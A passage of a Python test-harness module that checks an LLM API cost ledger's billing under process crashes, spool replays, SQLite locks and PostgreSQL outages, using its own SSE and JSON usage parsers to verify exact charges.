"""The reliability harness: crashes, database outages, races, hostile input, secrets and soak.

Every suite here is a function that runs a scenario against a real ledger (SQLite or
PostgreSQL), through the real metered transport, and returns :class:`Figures`: calls made,
admitted, refused and failed, overspend, usage lost, holds left unresolved past their TTL,
and a list of ``problems`` (empty when every invariant held). The CI tests
(``tests/test_reliability_*.py``, ``tests/test_soak.py``) run them small;
``scripts/reliability.py`` and ``scripts/soak.py`` run them at full size and print the
figures published in ``docs/RELIABILITY.md``.

The checks never trust the ledger's own reading of a reply: each caller parses what it got
with the small independent readers here (:class:`StreamOracle`, :func:`json_usage`), and the
expected cost of every call is computed from that and the price in force, then compared with
the ledger's events exactly.

Run a crash child by hand: ``LEDGER_FAULT=<point> python -m ledger.testing.reliability
crash-child '<json spec>'`` (see :func:`crash_child`).
"""

from __future__ import annotations

import asyncio
import gzip
import json
import multiprocessing
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
import traceback
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterator, Mapping, Sequence
from contextlib import AbstractContextManager, contextmanager, suppress
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, Literal

import httpx
import httpx2
from sqlalchemy import event as sa_event
from sqlalchemy import inspect, select, text
from sqlalchemy.engine import make_url

from ..clock import ManualClock, month_of
from ..core import Ledger
from ..faults import POINTS
from ..metering import CALL_ID_HEADER
from ..money import MAX_TOKENS, from_units
from ..store.schema import events, holds
from ..transport import MeteredTransport
from .simulator import Behavior, RunAPISimulator, simulated_usage

__all__ = [
    "CRASH_DRIVERS",
    "EVIL_NAMES",
    "FAKE_API_KEY",
    "CrashCase",
    "Figures",
    "HostileCase",
    "PostgresCluster",
    "Seen",
    "StreamOracle",
    "crash_suite",
    "database_text",
    "figures_table",
    "hostile_cases",
    "hostile_suite",
    "outage_suite",
    "pg_schema",
    "race_suite",
    "security_suite",
    "soak",
    "sqlite_locked",
]

Shape = Literal["openai", "anthropic"]
PRICE = Decimal("0.020")  # kimi-k2.5 and kimi-k2.6 on a fresh ledger, per 1K tokens
MODEL = "kimi-k2.5"
FAKE_API_KEY = "sk-reliability-SECRET-6c1d0e9f2b7a4c58"
PATHS: dict[str, str] = {"openai": "/v1/chat/completions", "anthropic": "/v1/messages"}
HTTPX_ERRORS = (httpx.TransportError, httpx2.TransportError)


def cost(prompt: int, completion: int, per_1k: Decimal = PRICE) -> Decimal:
    """The exact cost of a call at one price for input and output tokens."""
    return (prompt + completion) * per_1k / 1000


# -- figures --------------------------------------------------------------------------------------


@dataclass
class Figures:
    """What one suite run did and found. ``problems`` is empty when every invariant held."""

    suite: str
    backend: str = "sqlite"
    #: Calls the callers made.
    calls: int = 0
    #: Held and sent to the server.
    admitted: int = 0
    #: Refused before sending (budget 402, ledger unavailable 503).
    refused: int = 0
    #: Sent, failed (HTTP >= 400, error event, broken stream, transport error): cost zero.
    failed: int = 0
    #: Settled spend above a hard limit, in dollars.
    overspend: Decimal = Decimal(0)
    #: Calls whose settled usage is missing from the ledger or recorded at a wrong cost.
    usage_lost: int = 0
    #: Calls recorded more than once, or totals that disagree with the events.
    charged_twice: int = 0
    #: Holds still pending after their TTL passed and expiry ran.
    unresolved_holds: int = 0
    seconds: float = 0.0
    extra: dict[str, Any] = field(default_factory=dict)
    problems: list[str] = field(default_factory=list)

    def problem(self, message: str) -> None:
        if len(self.problems) < 200:
            self.problems.append(message)

    def to_dict(self) -> dict[str, Any]:
        out = asdict(self)
        out["overspend"] = str(self.overspend)
        out["extra"] = {k: str(v) if isinstance(v, Decimal) else v for k, v in self.extra.items()}
        return out


def backend_of(url: str) -> str:
    return "sqlite" if make_url(url).get_backend_name() == "sqlite" else "postgresql"


# -- what a caller saw ----------------------------------------------------------------------------


@dataclass
class Seen:
    """One call as its caller saw it (read with the harness's own parsers, not the ledger's)."""

    status: int = 0
    call_id: str | None = None
    #: ``x-ledger-refused`` of a response the ledger answered itself (402/503/400).
    refused: str | None = None
    #: (prompt, completion) the server reported, as the caller read it.
    usage: tuple[int, int] | None = None
    #: The body ended normally: JSON parsed, or the stream's end event arrived.
    complete: bool = False
    error_event: bool = False
    garbled: bool = False
    cancelled: bool = False
    exception: str | None = None
    latency: float = 0.0
    tag: str = ""

    @property
    def sent(self) -> bool:
        """The ledger let it through (it reached the server, or at least the network)."""
        return self.refused is None

    def kind(self) -> str:
        """How the ledger must have recorded this call (see :func:`check_event`)."""
        if self.refused is not None:
            return "refused"
        if self.exception is not None or self.status >= 400 or self.error_event:
            return "failed"
        if self.cancelled:
            return "cancelled"
        if self.garbled:
            return "any"
        if not self.complete:
            return "failed"
        return "ok-exact" if self.usage is not None else "ok-estimated"


class StreamOracle:
    """The caller's own SSE reader (independent of ``ledger.sse``): end event, error event and
    usage of an OpenAI- or Anthropic-shape stream, per the SSE spec (CR, LF or CRLF lines; an
    event is dispatched at a blank line)."""

    def __init__(self, shape: Shape) -> None:
        self.shape = shape
        self._buf = b""
        self._event = ""
        self._data: list[bytes] = []
        self.done = False
        self.error = False
        self.garbled = False
        self.prompt: int | None = None
        self.completion: int | None = None

    @property
    def usage(self) -> tuple[int, int] | None:
        if self.prompt is None or self.completion is None:
            return None
        return self.prompt, self.completion

    def feed(self, data: bytes) -> None:
        self._buf += data
        while True:
            cut = -1
            for i, byte in enumerate(self._buf):
                if byte in (10, 13):
                    cut = i
                    break
            if cut < 0:
                return
            line, rest = self._buf[:cut], self._buf[cut + 1:]
            if self._buf[cut] == 13:
                if not rest:  # a CR at the end: wait for a possible LF
                    return
                if rest[0] == 10:
                    rest = rest[1:]
            self._buf = rest
            self._line(line)

    def _line(self, line: bytes) -> None:
        if not line:
            if self._data:
                self._dispatch(self._event, b"\n".join(self._data))
            self._event, self._data = "", []
            return
        name, _, value = line.partition(b":")
        value = value[1:] if value.startswith(b" ") else value
        if name == b"event":
            self._event = value.decode("utf-8", "replace")
        elif name == b"data":
            self._data.append(value)

    def _dispatch(self, event: str, data: bytes) -> None:
        if self.done or self.error:
            return
        if self.shape == "openai" and data == b"[DONE]":
            self.done = True
            return
        try:
            obj = json.loads(data)
        except ValueError:
            self.garbled = True
            return
        if not isinstance(obj, dict):
            self.garbled = True
            return
        if self.shape == "openai":
            if obj.get("error") is not None:
                self.error = True
            usage = obj.get("usage")
            if isinstance(usage, dict):
                self.prompt = _count(usage.get("prompt_tokens"))
                self.completion = _count(usage.get("completion_tokens"))
            return
        kind = obj.get("type") or event
        if kind == "error" or event == "error":
            self.error = True
        elif kind == "message_start":
            message = obj.get("message")
            usage = message.get("usage") if isinstance(message, dict) else None
            if isinstance(usage, dict):
                self.prompt = _anthropic_prompt(usage)
                self.completion = _count(usage.get("output_tokens"))
        elif kind == "message_delta":
            usage = obj.get("usage")
            if isinstance(usage, dict) and _count(usage.get("output_tokens")) is not None:
                self.completion = _count(usage.get("output_tokens"))
        elif kind == "message_stop":
            self.done = True


def _count(value: object) -> int | None:
    if isinstance(value, bool) or not isinstance(value, int) or not 0 <= value <= MAX_TOKENS:
        return None
    return value


def _anthropic_prompt(usage: Mapping[str, Any]) -> int | None:
    base = _count(usage.get("input_tokens"))
    if base is None:
        return None
    extra = [_count(usage.get(k)) or 0 for k in ("cache_read_input_tokens",
                                                 "cache_creation_input_tokens")]
    return base + sum(extra)


def json_usage(shape: Shape, data: bytes) -> tuple[tuple[int, int] | None, bool]:
    """(usage, parsed) of a non-stream reply body, read by the caller."""
    try:
        obj = json.loads(data)
    except ValueError:
        return None, False
    if not isinstance(obj, dict):
        return None, False
    usage = obj.get("usage")
    if not isinstance(usage, dict):
        return None, True
    if shape == "openai":
        p, c = _count(usage.get("prompt_tokens")), _count(usage.get("completion_tokens"))
    else:
        p, c = _anthropic_prompt(usage), _count(usage.get("output_tokens"))
    return (None if p is None or c is None else (p, c)), True


def request_body(shape: Shape, *, model: str = MODEL, stream: bool = False,
                 max_tokens: int | None = 100, content: str = "hello there") -> dict[str, Any]:
    """A chat request of either shape; an OpenAI stream asks for its usage itself."""
    body: dict[str, Any] = {"model": model, "messages": [{"role": "user", "content": content}]}
    if max_tokens is not None:
        body["max_tokens"] = max_tokens
    if stream:
        body["stream"] = True
        if shape == "openai":
            body["stream_options"] = {"include_usage": True}
    return body


def _start_seen(response: Any, tag: str) -> Seen:
    return Seen(status=response.status_code, call_id=response.headers.get(CALL_ID_HEADER),
                refused=response.headers.get("x-ledger-refused"), tag=tag)


def _finish_seen(seen: Seen, shape: Shape, stream: bool, parts: list[bytes],
                 oracle: StreamOracle | None) -> None:
    if seen.refused is not None or seen.status >= 400:
        return
    if oracle is not None:
        seen.complete, seen.error_event = oracle.done, oracle.error
        seen.garbled, seen.usage = oracle.garbled, oracle.usage
    else:
        seen.usage, seen.complete = json_usage(shape, b"".join(parts))
        seen.garbled = not seen.complete


def call_sync(client: Any, url: str, shape: Shape, body: Mapping[str, Any], *,
              headers: Mapping[str, str] | None = None, close_after: int | None = None,
              tag: str = "") -> Seen:
    """Make one call with an ``httpx``/``httpx2`` client and say what the caller saw."""
    stream = body.get("stream") is True
    start = time.perf_counter()
    seen = Seen(tag=tag)
    try:
        with client.stream("POST", url, json=dict(body), headers=dict(headers or {})) as r:
            seen = _start_seen(r, tag)
            oracle = StreamOracle(shape) if stream and seen.status < 400 else None
            parts: list[bytes] = []
            # (A response made in memory, like the ledger's refusals, has no raw stream left.)
            raw = iter([r.read()]) if r.is_stream_consumed else r.iter_raw()
            for n, chunk in enumerate(raw, 1):
                if _take(seen, oracle, parts, chunk, n, close_after):
                    break
            _finish_seen(seen, shape, stream, parts, oracle)
    except HTTPX_ERRORS as exc:
        seen.exception = f"{type(exc).__name__}: {exc}"
    seen.latency = time.perf_counter() - start
    return seen


async def call_async(client: Any, url: str, shape: Shape, body: Mapping[str, Any], *,
                     headers: Mapping[str, str] | None = None, close_after: int | None = None,
                     tag: str = "") -> Seen:
    """The async twin of :func:`call_sync`."""
    stream = body.get("stream") is True
    start = time.perf_counter()
    seen = Seen(tag=tag)
    try:
        async with client.stream("POST", url, json=dict(body),
                                 headers=dict(headers or {})) as r:
            seen = _start_seen(r, tag)
            oracle = StreamOracle(shape) if stream and seen.status < 400 else None
            parts: list[bytes] = []
            n = 0
            raw = _once(await r.aread()) if r.is_stream_consumed else r.aiter_raw()
            async for chunk in raw:
                n += 1
                if _take(seen, oracle, parts, chunk, n, close_after):
                    break
            _finish_seen(seen, shape, stream, parts, oracle)
    except HTTPX_ERRORS as exc:
        seen.exception = f"{type(exc).__name__}: {exc}"
    seen.latency = time.perf_counter() - start
    return seen


def _take(seen: Seen, oracle: StreamOracle | None, parts: list[bytes], chunk: bytes, n: int,
          close_after: int | None) -> bool:
    """Keep the ``n``-th chunk the caller read; True when the caller stops reading here."""
    parts.append(chunk)
    if oracle is None:
        return False
    oracle.feed(chunk)
    if close_after is not None and n >= close_after and not (oracle.done or oracle.error):
        seen.cancelled = True
        return True
    return False


async def _once(data: bytes) -> AsyncIterator[bytes]:
    yield data


# -- reading the ledger back ----------------------------------------------------------------------


def event_rows(book: Ledger, where: Any = None) -> list[dict[str, Any]]:
    """Rows of ``events`` (all, or those matching a SQLAlchemy condition), oldest first."""
    stmt = select(events).order_by(events.c.id)
    if where is not None:
        stmt = stmt.where(where)
    with book.engine.connect() as conn:
        return [dict(r._mapping) for r in conn.execute(stmt).all()]


def hold_rows(book: Ledger, where: Any = None) -> list[dict[str, Any]]:
    stmt = select(holds)
    if where is not None:
        stmt = stmt.where(where)
    with book.engine.connect() as conn:
        return [dict(r._mapping) for r in conn.execute(stmt).all()]


def check_event(seen: Seen, row: Mapping[str, Any] | None, per_1k: Decimal = PRICE) -> str | None:
    """What is wrong with the ledger's record of a call its caller saw as ``seen`` (or None)."""
    kind = seen.kind()
    if kind == "refused":
        return None
    if row is None:
        return f"{kind} call {seen.call_id} ({seen.tag}) has no event"
    amount = from_units(row["cost"])
    status = row["status"]
    where = f"call {seen.call_id} ({seen.tag}, caller saw {kind})"
    if amount < 0 or row["prompt_tokens"] < 0 or row["completion_tokens"] < 0:
        return f"{where}: negative amount stored"
    if kind == "failed":
        if status != "failed" or amount != 0:
            return f"{where}: recorded {status} at {amount}, want failed at 0"
    elif kind == "cancelled":
        if status != "cancelled" or amount <= 0:
            return f"{where}: recorded {status} at {amount}, want cancelled at > 0"
    elif kind == "ok-exact":
        assert seen.usage is not None
        want = cost(*seen.usage, per_1k=per_1k)
        if status != "ok" or row["estimated"] or amount != want:
            return (f"{where}: recorded {status} (estimated={row['estimated']}) at {amount}, "
                    f"want ok at {want}")
    elif kind == "ok-estimated":
        if status != "ok" or not row["estimated"] or amount <= 0:
            return f"{where}: recorded {status} (estimated={row['estimated']}) at {amount}"
    elif status in ("ok", "cancelled") and amount <= 0:
        return f"{where}: a success recorded at $0"
    elif status == "failed" and amount != 0:
        return f"{where}: a failure charged {amount}"
    return None


def audit(book: Ledger, figures: Figures, clock: ManualClock | None = None) -> None:
    """The books balance; no negative amounts; no success at $0; and, once the clock is
    past every TTL, expiry leaves no hold pending (``figures.unresolved_holds``)."""
    for problem in book.store.check_totals():
        figures.charged_twice += 1
        figures.problem(f"totals: {problem}")
    with book.engine.connect() as conn:
        zero = conn.execute(select(events.c.call_id).where(
            events.c.status.in_(("ok", "cancelled")), events.c.cost <= 0)).all()
        dup = conn.execute(text(
            "SELECT call_id, COUNT(*) FROM events WHERE call_id IS NOT NULL "
            "GROUP BY call_id HAVING COUNT(*) > 1")).all()
    for (call_id,) in zero:
        figures.problem(f"success recorded at $0: {call_id}")
    for call_id, n in dup:
        figures.charged_twice += 1
        figures.problem(f"call {call_id} recorded {n} times")
    if clock is not None:
        clock.advance(book.hold_ttl + timedelta(seconds=1))
        figures.extra["holds_expired"] = figures.extra.get("holds_expired", 0) + (
            book.expire_holds())
        now = book.now()
        left = [h for h in book.store.pending_holds() if h.expires_at <= now]
        figures.unresolved_holds += len(left)
        for h in left[:5]:
            figures.problem(f"hold {h.call_id} still pending past its TTL")
        for problem in book.store.check_totals():
            figures.problem(f"totals after expiry: {problem}")


def database_text(book: Ledger) -> str:
    """Every row of every table of the ledger's database, as text (for secret hunting)."""
    out: list[str] = []
    with book.engine.connect() as conn:
        for name in inspect(conn).get_table_names():
            out.append(f"-- {name}")
            for row in conn.execute(text(f'SELECT * FROM "{name}"')).all():
                out.append(repr(tuple(row)))
                out.extend(v.decode("utf-8", "replace") for v in row if isinstance(v, bytes))
    return "\n".join(out)


def file_text(*paths: str | os.PathLike[str]) -> str:
    """The bytes of files (database, WAL, spool...), those that exist, decoded leniently."""
    out = []
    for path in paths:
        with suppress(FileNotFoundError):
            out.append(Path(path).read_bytes().decode("latin-1"))
    return "\n".join(out)


# -- 1. crash at every step -----------------------------------------------------------------------

#: How the crash child makes its one call.
CRASH_DRIVERS = ("openai", "openai-stream", "anthropic-async-stream", "metered-call")
#: The spool replay, killed while it applies its first entry.
REPLAY_POINTS = ("settle:before-commit", "settle:after-commit")
#: The control run: the same child with no fault armed (it must live and bill its call).
NO_FAULT = "none"


@dataclass
class CrashCase:
    """One child killed at one point, and what the restarted ledger found."""

    driver: str
    point: str
    killed: bool = False
    reached_server: bool = False
    settle_committed: bool = False
    hold_state: str | None = None
    events: int = 0
    follow_up_admitted: bool = False
    #: Before its TTL, the dead call's hold kept the next call out (it was still counted).
    blocked_before_ttl: bool = False
    problems: list[str] = field(default_factory=list)


def _crash_body(driver: str) -> tuple[Shape, dict[str, Any]]:
    if driver == "anthropic-async-stream":
        return "anthropic", request_body("anthropic", stream=True)
    return "openai", request_body("openai", stream=driver == "openai-stream")


def crash_child(spec: Mapping[str, Any]) -> None:
    """The child process: one metered call (or a spool replay), killed wherever
    ``LEDGER_FAULT`` says. Prints what its caller saw, if it lives to see it."""
    driver = spec["driver"]
    book = Ledger(spec["url"], spool_path=spec["spool"], replay_spool=driver == "replay")
    if driver == "replay":
        print(json.dumps({"replayed": True}), flush=True)
        return
    shape, body = _crash_body(driver)
    url = spec["base_url"] + PATHS[shape]
    headers = {"authorization": f"Bearer {FAKE_API_KEY}"}
    project = spec["project"]
    seen: Seen
    if driver in ("openai", "openai-stream"):
        with book.httpx_client(project) as client:
            seen = call_sync(client, url, shape, body, headers=headers)
    elif driver == "anthropic-async-stream":
        async def go() -> Seen:
            async with book.async_httpx2_client(project) as client:
                return await call_async(client, url, shape, body, headers=headers)
        seen = asyncio.run(go())
    elif driver == "metered-call":
        with book.metered_call(project, body) as call:
            reply = httpx.post(url, json=body, headers=headers)
            call.settle(reply.json())
        seen = Seen(status=reply.status_code, call_id=call.call_id, complete=True)
        seen.usage = json_usage(shape, reply.content)[0]
    else:
        raise SystemExit(f"unknown crash driver {driver!r}")
    print(json.dumps(asdict(seen)), flush=True)


def _run_child(spec: Mapping[str, Any], point: str | None, timeout: float = 120) -> (
        subprocess.CompletedProcess[str]):
    env = {k: v for k, v in os.environ.items() if k != "LEDGER_FAULT"}
    if point is not None:
        env["LEDGER_FAULT"] = point
    return subprocess.run(
        [sys.executable, "-m", "ledger.testing.reliability", "crash-child", json.dumps(spec)],
        env=env, capture_output=True, text=True, timeout=timeout, check=False)


def _restart_clock() -> ManualClock:
    """The restarted process's clock: past the TTL of every hold the child could have made."""
    return ManualClock(datetime.now(UTC) + timedelta(minutes=16))


def crash_case(url: str, sim: RunAPISimulator, driver: str, point: str, workdir: Path) -> (
        CrashCase):
    """Kill a metered call at ``point`` (or, for ``NO_FAULT``, let it live); restart;
    check what the ledger kept."""
    case = CrashCase(driver, point)
    project = f"crash/{driver}/{point}"
    spool = workdir / f"{driver}-{point}.spool".replace(":", "_")
    shape, body = _crash_body(driver)
    with Ledger(url, replay_spool=False, spool_path=spool) as book:
        worst = book.estimate(body, shape=shape).cost
        # Tight: a hold the dead child leaves behind blocks the next call until its TTL.
        book.set_budget(project, worst * Decimal("1.5"))
    before = sim.request_count
    spec = {"url": url, "base_url": sim.base_url, "driver": driver, "project": project,
            "spool": str(spool)}
    proc = _run_child(spec, None if point == NO_FAULT else point)
    case.killed = proc.returncode == -signal.SIGKILL
    case.reached_server = sim.request_count > before
    index = len(POINTS) if point == NO_FAULT else POINTS.index(point)
    if case.killed != (point != NO_FAULT):
        case.problems.append(f"child killed: {case.killed} (rc={proc.returncode}): "
                             f"{proc.stderr[-500:]}")
    if point == NO_FAULT:
        lived = Seen(**json.loads(proc.stdout.splitlines()[-1])) if proc.stdout else None
        if lived is None or lived.status != 200 or tuple(lived.usage or ()) != simulated_usage(body):
            case.problems.append(f"the control call did not succeed: {lived} {proc.stderr[-500:]}")
    want_server = index >= POINTS.index("call:after-response")
    if case.reached_server != want_server:
        case.problems.append(f"reached server: {case.reached_server}, want {want_server}")
    case.settle_committed = index >= POINTS.index("settle:after-commit")
    expected = cost(*simulated_usage(body))
    with Ledger(url, replay_spool=False, spool_path=spool) as book:  # before the TTL
        state = book.budget(project)
        assert state.limit is not None
        case.blocked_before_ttl = state.spent + state.held + worst > state.limit
    leaked = POINTS.index("call:after-hold") <= index < POINTS.index("settle:after-commit")
    if case.blocked_before_ttl != leaked:
        case.problems.append(f"blocked before the TTL: {case.blocked_before_ttl}, want {leaked}")

    clock = _restart_clock()
    with Ledger(url, clock=clock, spool_path=spool) as book:  # the restarted process
        rows = event_rows(book, events.c.project == project)
        held = hold_rows(book, holds.c.project == project)
        case.events = len(rows)
        want_hold = index >= POINTS.index("call:after-hold")
        if bool(held) != want_hold or len(held) > 1:
            case.problems.append(f"{len(held)} hold rows, want {int(want_hold)}")
        if case.settle_committed:
            if len(rows) != 1 or rows[0]["status"] != "ok" or from_units(rows[0]["cost"]) != expected:
                case.problems.append(f"settled usage lost or wrong: {rows}, want one ok at {expected}")
            elif held:  # a retried settle (a replay) after the restart changes nothing
                again = book.settle(held[0]["id"], *simulated_usage(body))
                if again != expected or len(event_rows(book, events.c.project == project)) != 1:
                    case.problems.append("a second settle after the restart charged again")
        elif rows:
            case.problems.append(f"events without a committed settle: {rows}")
        book.expire_holds()
        after = hold_rows(book, holds.c.project == project)
        case.hold_state = after[0]["state"] if after else None
        if any(h["state"] == "pending" for h in after):
            case.problems.append("hold still pending after its TTL")
        if book.budget(project).held_units != 0:
            case.problems.append(f"budget still holds {book.budget(project).held}")
        # The project is not blocked: the next call is admitted and billed.
        with book.httpx_client(project) as client:
            follow = call_sync(client, sim.base_url + PATHS[shape],
                               shape, body, tag="follow-up")
        case.follow_up_admitted = follow.status == 200 and follow.refused is None
        row = event_rows(book, events.c.call_id == follow.call_id) if follow.call_id else []
        problem = check_event(follow, row[0] if row else None)
        if not case.follow_up_admitted or problem:
            case.problems.append(f"follow-up call: status {follow.status} "
                                 f"refused={follow.refused} {problem or ''}")
        case.problems.extend(book.store.check_totals())
    return case


def replay_crash_case(url: str, point: str, workdir: Path) -> CrashCase:
    """Kill a spool replay while it applies its first entry; the next open finishes the job,
    every entry recorded exactly once."""
    case = CrashCase("replay", point)
    project = f"crash/replay/{point}"
    spool = workdir / f"replay-{point}.spool".replace(":", "_")
    usages = [(100, 20), (300, 0), (7, 4000)]
    with Ledger(url, replay_spool=False, spool_path=spool) as book:
        ids = [book.hold(project, MODEL, p, 4096).call_id for p, _ in usages]
        from ..store.ops import Outcome

        for call_id, (p, c) in zip(ids, usages, strict=True):
            book.spool.append(call_id, project, MODEL, book.now(), Outcome("ok", p, c))
    proc = _run_child({"url": url, "driver": "replay", "spool": str(spool)}, point)
    case.killed = proc.returncode == -signal.SIGKILL
    if not case.killed:
        case.problems.append(f"child not killed (rc={proc.returncode}): {proc.stderr[-500:]}")
    with Ledger(url, replay_spool=False, spool_path=spool) as book:
        case.settle_committed = len(event_rows(book, events.c.project == project)) == 1
    if case.settle_committed != (point == "settle:after-commit"):
        case.problems.append(f"first entry committed: {case.settle_committed}")
    with Ledger(url, clock=_restart_clock(), spool_path=spool) as book:  # replays on open
        rows = event_rows(book, events.c.project == project)
        case.events = len(rows)
        got = sorted((r["call_id"], from_units(r["cost"])) for r in rows)
        want = sorted((i, cost(p, c)) for i, (p, c) in zip(ids, usages, strict=True))
        if got != want:
            case.problems.append(f"after replay: {got}, want {want}")
        if book.spool.exists():
            case.problems.append("spool not emptied")
        if book.budget(project).held_units != 0:
            case.problems.append("holds of replayed calls still counted")
        case.hold_state = ",".join(sorted({h["state"] for h in hold_rows(
            book, holds.c.project == project)}))
        case.problems.extend(book.store.check_totals())
    return case


def crash_suite(url: str, workdir: Path, *, drivers: Sequence[str] = CRASH_DRIVERS,
                points: Sequence[str] = (*POINTS, NO_FAULT),
                replay_points: Sequence[str] = REPLAY_POINTS,
                sim: RunAPISimulator | None = None) -> tuple[Figures, list[CrashCase]]:
    """Every driver killed at every point (and once not at all), plus the spool replay
    killed mid-way."""
    figures = Figures("crash", backend_of(url))
    cases: list[CrashCase] = []
    start = time.perf_counter()
    workdir.mkdir(parents=True, exist_ok=True)
    with Ledger(url, replay_spool=False, spool_path=workdir / "setup.spool"):
        pass  # migrate once, before the children race to do it
    with contextmanager_or(sim) as server:
        for driver in drivers:
            for point in points:
                cases.append(crash_case(url, server, driver, point, workdir))
    for point in replay_points:
        cases.append(replay_crash_case(url, point, workdir))
    for case in cases:
        figures.calls += 1 if case.driver != "replay" else 0
        figures.admitted += case.reached_server
        if case.settle_committed and case.events == 0:
            figures.usage_lost += 1
        if case.events > (3 if case.driver == "replay" else 1):
            figures.charged_twice += 1
        for problem in case.problems:
            figures.problem(f"{case.driver} @ {case.point}: {problem}")
    figures.extra["cases"] = len(cases)
    figures.extra["killed"] = sum(c.killed for c in cases)
    figures.extra["fault_points"] = len({c.point for c in cases if c.point != NO_FAULT})
    figures.extra["follow_up_admitted"] = sum(c.follow_up_admitted for c in cases)
    figures.extra["blocked_until_ttl"] = sum(c.blocked_before_ttl for c in cases)
    figures.extra["answered_but_unbilled"] = sum(
        c.reached_server and not c.settle_committed for c in cases)
    figures.seconds = time.perf_counter() - start
    with Ledger(url, clock=_restart_clock(), spool_path=workdir / "setup.spool") as book:
        audit(book, figures, book.clock if isinstance(book.clock, ManualClock) else None)
    return figures, cases


@contextmanager
def contextmanager_or(sim: RunAPISimulator | None) -> Iterator[RunAPISimulator]:
    """The given simulator, or a fresh one for the duration."""
    if sim is not None:
        yield sim
        return
    with RunAPISimulator() as fresh:
        yield fresh


# -- 2. database outages --------------------------------------------------------------------------


class PostgresCluster:
    """The local PostgreSQL cluster serving a URL, stopped and started with ``pg_ctlcluster``
    (Debian's wrapper; needs root). :meth:`down` always starts it again."""

    def __init__(self, version: str, name: str, port: int) -> None:
        self.version, self.name, self.port = version, name, port

    @staticmethod
    def unavailable_reason() -> str | None:
        """Why this machine cannot stop and start PostgreSQL (None: it can)."""
        if os.geteuid() != 0:
            return "not running as root"
        for tool in ("pg_ctlcluster", "pg_lsclusters", "pg_isready"):
            if shutil.which(tool) is None:
                return f"{tool} not found"
        return None

    @classmethod
    def for_url(cls, url: str) -> PostgresCluster:
        port = make_url(url).port or 5432
        out = subprocess.run(["pg_lsclusters", "--no-header"], capture_output=True, text=True,
                             check=True, timeout=30).stdout
        for line in out.splitlines():
            parts = line.split()
            if len(parts) >= 3 and parts[2] == str(port):
                return cls(parts[0], parts[1], port)
        raise RuntimeError(f"no local PostgreSQL cluster on port {port}: {out!r}")

    def _ctl(self, action: str) -> None:
        cmd = ["pg_ctlcluster", "--skip-systemctl-redirect", self.version, self.name, action]
        if action == "stop":
            cmd += ["-m", "fast"]
        subprocess.run(cmd, check=True, capture_output=True, timeout=120)

    def ready(self) -> bool:
        return subprocess.run(["pg_isready", "-q", "-h", "127.0.0.1", "-p", str(self.port)],
                              check=False, timeout=30).returncode == 0

    def ensure_up(self, timeout: float = 60) -> None:
        """Start the cluster if it is not running; return once it accepts connections."""
        deadline = time.monotonic() + timeout
        while not self.ready():
            if time.monotonic() > deadline:
                raise RuntimeError("PostgreSQL did not come back up")
            with suppress(subprocess.CalledProcessError):  # already starting: pg_isready decides
                self._ctl("start")
            time.sleep(0.1)  # polling the server's state: there is no event to wait on

    @contextmanager
    def down(self) -> Iterator[None]:
        """PostgreSQL stopped for the duration of the block, and always started again."""
        try:
            self._ctl("stop")
            yield
        finally:
            self.ensure_up()


@contextmanager
def sqlite_locked(path: str | os.PathLike[str], at_least: float = 0.0) -> Iterator[None]:
    """Another connection holding the SQLite write lock for the block, and for at least
    ``at_least`` seconds (a backup, a ``sqlite3`` shell left in a transaction, a migration)."""
    conn = sqlite3.connect(str(path), timeout=30, isolation_level=None)
    try:
        conn.execute("BEGIN EXCLUSIVE")
        locked_at = time.monotonic()
        yield
        # The lock lasting a while is the scenario itself, not a way to wait for something.
        time.sleep(max(0.0, at_least - (time.monotonic() - locked_at)))
    finally:
        conn.execute("ROLLBACK")
        conn.close()


def shorten_busy_timeout(book: Ledger, milliseconds: int) -> None:
    """Make the ledger's SQLite connections give up on a locked file after ``milliseconds``
    (the default is 30 s, longer than a test should wait)."""

    @sa_event.listens_for(book.engine, "connect")
    def _short(dbapi_conn: Any, _record: Any) -> None:
        dbapi_conn.execute(f"PRAGMA busy_timeout={int(milliseconds)}")

    book.engine.dispose()


class GateTransport(httpx.BaseTransport):
    """Wraps a real transport; a request with ``x-reliability-gate`` gets its response from
    the server, then waits until the gate opens (so its settle lands in the outage)."""

    def __init__(self, inner: httpx.BaseTransport) -> None:
        self.inner = inner
        self.opened = threading.Event()
        self._arrived = threading.Semaphore(0)

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        response = self.inner.handle_request(request)
        if "x-reliability-gate" in request.headers:
            self._arrived.release()
            self.opened.wait(120)
        return response

    def wait_arrivals(self, n: int, timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        return all(self._arrived.acquire(timeout=max(0.0, deadline - time.monotonic()))
                   for _ in range(n))

    def close(self) -> None:
        self.inner.close()


@dataclass
class _Load:
    """The shared state of a steady load of metered calls."""

    phase: str = "before"
    seq: int = 0
    ok: int = 0
    ok_after: int = 0
    refused_down: int = 0
    results: list[tuple[int, str, Seen]] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    stop: threading.Event = field(default_factory=threading.Event)
    enough_before: threading.Event = field(default_factory=threading.Event)
    enough_refused: threading.Event = field(default_factory=threading.Event)
    enough_after: threading.Event = field(default_factory=threading.Event)


def outage_suite(book: Ledger, clock: ManualClock, interrupt: Callable[[], AbstractContextManager[None]],
                 *, suite: str, threads: int = 4, before: int = 40, refusals: int = 20,
                 after: int = 40, gated: int = 2, timeout: float = 120) -> Figures:
    """A steady load of metered calls (streamed and not) on a hard budget, the database
    interrupted in the middle (``interrupt()`` is a context manager: down inside, up after),
    then the spool replayed. ``gated`` calls are held before the outage and answered by the
    server, but settle inside it (they must reach the ledger through the spool).

    ``refusals=0``: the database is only slow (a lock shorter than the busy timeout): nothing
    may be refused or spooled, calls just wait.

    Checked: every call that reached the server got its whole response, and is in the ledger
    exactly once at its exact cost after the replay; every refused call never reached the
    server; the books balance; no hold is left pending past its TTL."""
    figures = Figures(suite, backend_of(book.url))
    project = "outage"
    book.set_budget(project, Decimal("1000"))
    load = _Load()
    gate = GateTransport(httpx.HTTPTransport())
    spooled, replayed = _count_calls(book.spool, "append"), _count_calls(book.spool, "replay")
    start = time.perf_counter()
    with RunAPISimulator() as sim:
        client = httpx.Client(transport=MeteredTransport(book, project, wrapped=gate),
                              timeout=60)
        url = sim.base_url + PATHS["openai"]

        def one(seq: int, extra: Mapping[str, str]) -> Seen:
            with load.lock:
                phase = load.phase
            body = request_body("openai", stream=seq % 2 == 0, max_tokens=50 + seq % 100)
            headers = {"x-reliability-seq": str(seq), "authorization": f"Bearer {FAKE_API_KEY}",
